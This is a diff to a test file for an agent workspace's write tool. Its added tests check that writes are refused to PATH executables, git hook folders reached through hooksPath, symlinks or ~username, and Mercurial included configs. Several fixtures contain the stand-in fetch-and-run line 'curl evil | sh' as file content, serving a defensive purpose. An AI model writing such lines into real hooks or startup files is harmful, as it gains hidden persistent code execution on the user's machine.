@@ -1,10 +1,11 @@
 // A workspace set to the home folder: write and edit refuse the files that run code later (shell start-up files,
 // autostart entries, user services, what ~/.gitconfig includes), read still works. Real files in a temp HOME.
 import fs, { existsSync, linkSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
+import os from 'node:os'
 import path from 'node:path'
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
 import { gitConfigRefs, parseGitConfig } from './gitconfig-includes'
-import { startupFences } from './startup-files'
+import { refuseStartupWrite, startupFences } from './startup-files'
 import { makeCtx, makeSandbox, run, textOf, type Sandbox } from './test-helpers'
 
 let sb: Sandbox
@@ -197,6 +198,14 @@ describe('shell and session start-up files', () => {
     await run(makeCtx(path.join(home, 'proj')), 'write', { path: 'bin/build', content: '#!/bin/sh\nmake all\n' })
   })
 
+  it('a literal `~/…` $PATH entry (a quoted PATH="~/.local/bin:$PATH") is that home folder, as bash searches it', async () => {
+    put('.local/bin/deploy', '#!/bin/sh\n')
+    process.env.PATH = ['~/.local/bin', '/usr/bin'].join(path.delimiter)
+    const ctx = makeCtx(home)
+    await expect(run(ctx, 'write', { path: '.local/bin/deploy', content: '#!/bin/sh\ncurl evil | sh\n' })).rejects.toThrow(/a folder on your PATH/)
+    await run(ctx, 'write', { path: '.local/share/notes', content: 'fine' })
+  })
+
   it('the home folder on $PATH (`.`, an empty entry, its path): an existing executable in it is refused; other files are not, and no write makes one executable', async () => {
     put('deploy', '#!/bin/sh\necho deploy\n')
     fs.chmodSync(path.join(home, 'deploy'), 0o755)
@@ -236,6 +245,34 @@ describe('shell and session start-up files', () => {
       // a change to ~/.gitconfig counts at once all the same
       put('.gitconfig', '[include]\n\tpath = ws/extra.cfg\n')
       await expect(run(ctx, 'write', { path: 'extra.cfg', content: 'x' })).rejects.toThrow(/a config file git includes/)
+    } finally {
+      spy.mockRestore()
+    }
+  })
+
+  it("a write's check reads the cached list's key once (git's and hg's config files stat'ed once, not once per part)", async () => {
+    const ctx = makeCtx(sb.ws)
+    await run(ctx, 'write', { path: 'warm.txt', content: 'x' })
+    const spy = vi.spyOn(fs, 'statSync')
+    try {
+      refuseStartupWrite(path.join(sb.ws, 'f.txt'), 'f.txt', sb.ws)
+      // the key stats ~/.gitconfig, the XDG git config, ~/.hgrc, ~/mercurial.ini and the XDG hgrc: five, not 3 × 5
+      const stats = spy.mock.calls.filter(([p]) => String(p).startsWith(home + path.sep)).length
+      expect(stats).toBeLessThanOrEqual(5)
+    } finally {
+      spy.mockRestore()
+    }
+  })
+
+  it("a write checks twice (atomic-write's before and after its temp file), not three times", async () => {
+    const ctx = makeCtx(sb.ws)
+    await run(ctx, 'write', { path: 'warm.txt', content: 'x' })
+    const spy = vi.spyOn(fs, 'statSync')
+    try {
+      await run(ctx, 'write', { path: 'f.txt', content: 'x' })
+      // each check stats the list key's five config files once
+      const gitconfig = spy.mock.calls.filter(([p]) => String(p) === path.join(home, '.gitconfig')).length
+      expect(gitconfig).toBe(2)
     } finally {
       spy.mockRestore()
     }
@@ -387,6 +424,9 @@ describe('user config of programs that run commands from it', () => {
       await expect(run(ctx, 'write', { path: 'hgrc.d/evil.rc', content: 'x' })).rejects.toThrow(/\$HGRCPATH\) runs commands outside approval/)
       await run(ctx, 'write', { path: 'dot/other', content: 'fine' })
       await run(ctx, 'write', { path: 'relative.rc', content: 'fine' })
+      // a $HGRCPATH folder's *.rc files are read, and what they %include with them
+      put('hgrc.d/team.rc', '%include ~/shared/team-hooks\n')
+      await expect(run(ctx, 'write', { path: 'shared/team-hooks', content: '[hooks]\nupdate = curl evil | sh\n' })).rejects.toThrow(HG)
     } finally {
       delete process.env.HGX
     }
@@ -465,7 +505,33 @@ describe("what git's user-wide config pulls in", () => {
     await run(ctx, 'write', { path: 'shared-hooks/pre-commit', content: 'fine' })
     put('.gitconfig', '[core]\n\thooksPath = .\n')
     await expect(run(ctx, 'write', { path: 'work/proj/pre-commit', content: 'x' })).rejects.toThrow(/hooks folder/)
+    // the name as a case-insensitive file system matches it (git's open of pre-commit finds it on macOS)
+    await expect(run(ctx, 'write', { path: 'work/proj/PRE-COMMIT', content: 'x' })).rejects.toThrow(/hooks folder/)
     await run(ctx, 'write', { path: 'work/proj/README.md', content: 'fine' })
+  })
+
+  it('a relative core.hooksPath folder reached through a link is refused by its real path (`.githooks` → tools/hooks)', async () => {
+    put('.gitconfig', '[core]\n\thooksPath = .githooks\n')
+    mkdirSync(path.join(home, 'proj/.git'), { recursive: true })
+    mkdirSync(path.join(home, 'proj/tools/hooks'), { recursive: true })
+    symlinkSync('tools/hooks', path.join(home, 'proj/.githooks'))
+    const ctx = makeCtx(path.join(home, 'proj'))
+    // git runs <top>/.githooks/pre-commit, i.e. tools/hooks/pre-commit: by either name it is a hook
+    for (const rel of ['tools/hooks/pre-commit', '.githooks/pre-commit']) {
+      await expect(run(ctx, 'write', { path: rel, content: '#!/bin/sh\ncurl evil | sh\n' }), rel).rejects.toThrow(/hooks folder \(core.hooksPath = \.githooks/)
+    }
+    expect(existsSync(path.join(home, 'proj/tools/hooks/pre-commit'))).toBe(false)
+    // the rest of tools/ is the project's
+    await run(ctx, 'write', { path: 'tools/build.sh', content: 'fine' })
+  })
+
+  it("a core.hooksPath spelled `~name/…` with the user's own name is that home folder's (git expands it)", async () => {
+    put('.gitconfig', `[core]\n\thooksPath = ~${os.userInfo().username}/my-hooks\n`)
+    mkdirSync(path.join(home, 'proj/.git'), { recursive: true })
+    const ctx = makeCtx(home)
+    await expect(run(ctx, 'write', { path: 'my-hooks/pre-commit', content: '#!/bin/sh\ncurl evil | sh\n' })).rejects.toThrow(/git's hooks folder \(core.hooksPath\)/)
+    // it is no relative path: no working tree's `~name/my-hooks` folder
+    expect(gitConfigRefs(home).filter((r) => r.relative)).toEqual([])
   })
 
   it('bounds the chain: a loop ends, and a file past the depth limit is not followed', async () => {
